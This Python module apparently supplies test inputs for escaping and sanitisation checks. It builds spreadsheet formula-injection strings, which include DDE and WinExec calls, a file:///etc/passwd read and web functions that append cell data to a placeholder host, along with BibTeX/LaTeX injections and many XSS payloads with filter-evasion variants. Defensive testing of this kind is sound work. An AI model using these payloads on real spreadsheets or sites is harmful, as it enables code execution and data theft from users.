"""Texts that spreadsheets, citation tools or pages might run or stumble over.

Each of :data:`INJECTIONS` would run in a page that forgot to escape it where it stands: text, attribute, script or style.
"""

import itertools

_SIGNS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "'=", "\u00a0=", "\u200b=", "''=", "\t\t@", "\n-",
    " +", "  -", "\ufeff=", "\u2060@", "\u202e=", "'＝", "\u3000＋", "\r\n=", "=-", "+=", "\u200f-", "\u2003=", "=@",
)  # fmt: skip
_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"x")',
    'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    'DDE("cmd";"/C calc";"1")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'WEBSERVICE("http://x.example")',
    '"x","y"\r\n=1',
    'IMPORTDATA("http://x.example/"&A1)',
    'IMAGE("http://x.example/?"&A1)',
    'EXEC("calc")',
    'CALL("kernel32","WinExec","JCJ","calc",0)',
    'REGISTER.ID("kernel32","WinExec")',
    "'file:///etc/passwd'#$passwd.A1",
    'FILTERXML(WEBSERVICE("http://x.example"),"//a")',
    "A1:A9",
)
_OTHERS = (
    "}, note = {x}\n@book{a, title={b}}",
    "\\input{/etc/passwd} % comment",
    "{{{ unbalanced",
    "}}} unbalanced",
    "ER  - \r\nTY  - BOOK\r\nTI  - fake",
    "<script>alert(1)</script>",
    "]]><!-- & &amp; \"'",
    "\x00\x01\x0b\x1f nul",
    "\u202eevil\u202c \u2028 next",
    "_x0041_ _x000D_",
    "مالي @x {a} $5 & #6 ~ ^ _",
)
HOSTILE = (*(sign + body for sign, body in itertools.product(_SIGNS, _BODIES)), *_OTHERS)

LIVE = tuple("=+-@＝＋－＠\t\r\n")
"""What a formula begins with, behind :data:`UNSEEN`."""
UNSEEN = " \u00a0\u200b\u200f\u2003\u2060\u202e\u3000\ufeff"

_WAYS_OUT = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</title></textarea>",
    "</style></noscript>",
    "</script>",
    "-->",
    "]]>",
    "</text></svg>",
    "</a></h1></p>",
    "</option></select>",
    "</bdi></td></tr></table>",
    "</summary></details></dl>",
    "</template></noembed>",
    "</xmp></iframe>",
)
_ELEMENTS = (
    "<script>{0}</script>",
    "<ScRiPt >{0}</sCrIpT>",
    "<script/x>{0}</script>",
    "<script\x0c>{0}</script\n>",
    "<img src=x onerror={0}>",
    "<img/src='x'/onerror='{0}'>",
    "<IMG \x09 SRC=x OnErRoR\x0b=\n{0}>",
    "<svg onload={0}>",
    "<svg><animate attributeName=x onbegin={0}></svg>",
    "<svg><script>{0}</script></svg>",
    "<svg><set attributeName=href to=javascript:{0} /><a><text>x</text></a></svg>",
    "<math><mtext><img src=x onerror={0}></mtext></math>",
    "<body onload={0}>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}></audio>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}></select>",
    "<textarea autofocus onfocus={0}></textarea>",
    "<marquee onstart={0}>x</marquee>",
    '<iframe srcdoc="<script>parent.{0}</script>"></iframe>',
    "<iframe src=javascript:parent.{0}></iframe>",
    "<object data=javascript:{0}></object>",
    "<embed src=javascript:{0}>",
    "<form action=javascript:{0}><button>x</button></form>",
    '<meta http-equiv=refresh content="0;url=javascript:{0}">',
    "<base href=javascript:/{0}//>",
    "<link rel=stylesheet href=data:text/css,*%7Bbackground:red%7D>",
    "<style onload={0}></style>",
    "<template><script>{0}</script></template>",
)
_ATTRIBUTES = (
    " autofocus onfocus={0} x=",
    " style=animation-name:x onanimationstart={0} x=",
    "\x0conmouseover={0} x=",
    "\nonclick={0} x=",
)
_ADDRESSES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "&#106;avascript&colon;{0}",
    " javascript:{0}",
    "java\tscript:{0}",
    "\x01javascript:{0}",
)
MARK = "window.__ran=1"
"""What each would do."""
INJECTIONS: tuple[str, ...] = tuple(
    way.format(MARK)
    for way in (
        *map("".join, itertools.product(_WAYS_OUT, _ELEMENTS)),
        *map("".join, itertools.product(("", '"', "'"), _ATTRIBUTES)),
        *_ADDRESSES,
    )
)
